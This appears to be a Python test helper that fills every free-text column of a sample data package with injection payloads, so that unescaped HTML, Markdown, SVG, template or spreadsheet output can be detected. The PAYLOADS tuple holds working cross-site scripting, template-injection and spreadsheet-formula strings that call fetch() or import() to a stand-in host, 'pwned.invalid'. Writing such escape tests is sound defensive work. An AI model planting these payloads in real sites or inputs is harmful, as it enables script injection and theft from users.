"""A small package with hostile text in every free text column.

Each payload names the column that it stands in. It asks for a host that nobody has (``OUTSIDE``), by scripts,
images, handlers and links, and draws elements that no page of ours has (of class or id ``poison``, or holding
that word alone), so that text which was taken for HTML, Markdown, SVG or a template is found by what it made.
"""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from scripts.contract.canonical import format_rows
from scripts.contract.package import Package, Resource, iter_rows, load_package, read_rows
from tests.edits import add_figure
from tests.sample import write_sample

OUTSIDE = "pwned.invalid"
LONG_WORD = "Nghiêng" * 12
PAYLOADS = (
    "<script>import('//{out}/{at}')</script><img src=x onerror=\"fetch('//{out}/{at}')\">",
    "\"><svg onload=fetch('//{out}/{at}')>' onfocus=fetch('//{out}/{at}') autofocus x='",
    "</title></script></style></textarea><script>fetch('//{out}/{at}')</script><!--",
    "[poison](javascript:fetch('//{out}/{at}')) ![x](//{out}/{at}) <javascript:1> **poison** `poison`",
    "{{{{ 7*7 }}}} {{% raw %}} ${{fetch('//{out}/{at}')}} {{onclick=fetch('//{out}/{at}') .poison}} ]]> -->",
    "=HYPERLINK(\"//{out}/{at}\") &lt;b class=poison&gt; <b class=poison id=poison>x</b>",
)  # fmt: skip
"""What a cell holds behind its own words, but at the beginning where it is a formula."""
ADDRESS = "https://example.org/\"onclick='fetch(1)'><b/class=poison>"

AREAS = {
    "areas": ("id",),
    "area_statuses": ("area_id",),
    "successions": ("from_area_id", "to_area_id"),
    "tiles": ("area_id",),
}
"""The columns of areas in the tables that list them all."""
WITH_ISLANDS = ("da-nang", "da-nang-2025", "khanh-hoa", "khanh-hoa-2025")
"""Provinces whose tiles every map has."""


def write_poisoned(folder: Path) -> Package:
    """Write the small package into a new folder, each free text cell with a payload, in turn."""
    write_sample(folder)
    package = drop_lengths(folder)
    keep_named_areas(package)
    add_figure(package, {"id": "f0017", "source_id": "ranks-2024", "paragraph": "", "obs_value": "70"})
    for resource in package.resources.values():
        rows = [cells for _, cells in iter_rows(resource)]
        for number, row in enumerate(rows):
            poison_row(resource, row, number)
        resource.path.write_text(format_rows(resource, rows), encoding="utf-8")
    return package


def drop_lengths(folder: Path) -> Package:
    """Load the package without the lengths of its free texts: short ones have to be escaped as well."""
    path = folder / "datapackage.json"
    descriptor = json.loads(path.read_text(encoding="utf-8"))
    for resource in descriptor["resources"]:
        for field in filter(is_free, resource["schema"]["fields"]):
            field["constraints"].pop("maxLength", None)
    path.write_text(json.dumps(descriptor, ensure_ascii=False), encoding="utf-8")
    return load_package(folder)


def keep_named_areas(package: Package) -> None:
    """Leave out the provinces that have no figure, no gap and no kin that has: a page each would be slow."""
    rows = {name: read_rows(resource) for name, resource in package.resources.items()}
    named = {row["area_id"] for name in ("observations", "gaps") for row in rows[name]}
    kin = {(row["from_area_id"], row["to_area_id"]) for row in rows["successions"]}
    kept = {"viet-nam", *WITH_ISLANDS, *named, *(area for pair in kin if named & set(pair) for area in pair)}
    for name, columns in AREAS.items():
        resource = package.resources[name]
        cells = [
            row
            for _, row in iter_rows(resource)
            if {row[resource.field_names.index(column)] for column in columns} <= kept | {""}
        ]
        resource.path.write_text(format_rows(resource, cells), encoding="utf-8")


def poison_row(resource: Resource, row: list[str], number: int) -> None:
    """Put payloads into a row's cells of free text, the empty ones too."""
    for column, field in enumerate(resource.fields):
        place = f"{resource.name}.{field['name']}"
        if is_free(field):
            row[column] = poison(row[column], place, number + column)
        elif field["name"] == "url":
            row[column] = ADDRESS


def poison(text: str, place: str, turn: int) -> str:
    """Return a cell's text with a payload that names the place."""
    payload = PAYLOADS[turn % len(PAYLOADS)].format(out=OUTSIDE, at=place)
    parts = (payload, text) if payload.startswith("=") else (text, LONG_WORD, payload)
    return " ".join(filter(None, parts))


def is_free(field: dict[str, Any]) -> bool:
    """Say whether a column may hold any text: no code, no id, no date, no address."""
    return field["type"] == "string" and not {"enum", "pattern"} & field["constraints"].keys()


def iter_free_columns(package: Package) -> Iterator[str]:
    """Yield the free text columns as ``table.column``."""
    for resource in package.resources.values():
        yield from (f"{resource.name}.{field['name']}" for field in resource.fields if is_free(field))
